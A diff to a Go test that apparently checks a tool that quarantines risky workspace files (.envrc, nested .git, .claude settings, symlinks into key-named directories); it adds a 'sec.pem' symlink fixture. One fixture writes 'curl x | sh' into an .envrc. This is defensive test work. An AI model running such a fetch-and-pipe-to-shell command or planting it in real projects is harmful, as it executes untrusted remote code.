@@ -476,6 +476,7 @@ mkdir -p x/y && ln -s ../../vendor/lib2/.git x/y/.git
 mkdir -p z && cp -r vendor/lib2/.git z/.git
 mkdir -p w && ln vendor/lib2/.git/config w/.gitconfig
 c=$(dirname "$GOCACHE"); mkdir -p "$c/evil" && echo 'curl x | sh' > "$c/evil/.envrc" && ln -s "$c/evil" linked
+mkdir -p sec.pem && ln -s "$c/evil" sec.pem/linked
 mkdir -p fake/.claude && echo '{}' > fake/.claude/settings.json && chmod 0 fake/.claude
 mkdir -p hid && echo evil > hid/.envrc && chmod 0 hid
 mkdir -p keys.pem/lib && git init -q keys.pem/lib; mkdir -p sub/.azure && echo evil > sub/.azure/.envrc
@@ -514,7 +515,7 @@ true`)
 		// Secret directories hide nothing either: a repository in a
 		// directory named like a key, an .envrc in a new .azure. Nor does
 		// a directory made read-only, with the quarantine name taken.
-		want := []string{deep + "/.envrc", "fake/.claude", "keys.pem/lib/.git", "linked", "ro/.envrc", "sub/.azure/.envrc", "vendor/lib/.git", "vendor/lib2/.git", "x/y/.git", "z/.git"}
+		want := []string{deep + "/.envrc", "fake/.claude", "keys.pem/lib/.git", "linked", "ro/.envrc", "sec.pem/linked", "sub/.azure/.envrc", "vendor/lib/.git", "vendor/lib2/.git", "x/y/.git", "z/.git"}
 		want = slices.Insert(want, 2, "hid/.envrc")
 		if !slices.Equal(got, want) {
 			t.Errorf("moved aside %v, want %v\n%s", got, want, out.String())
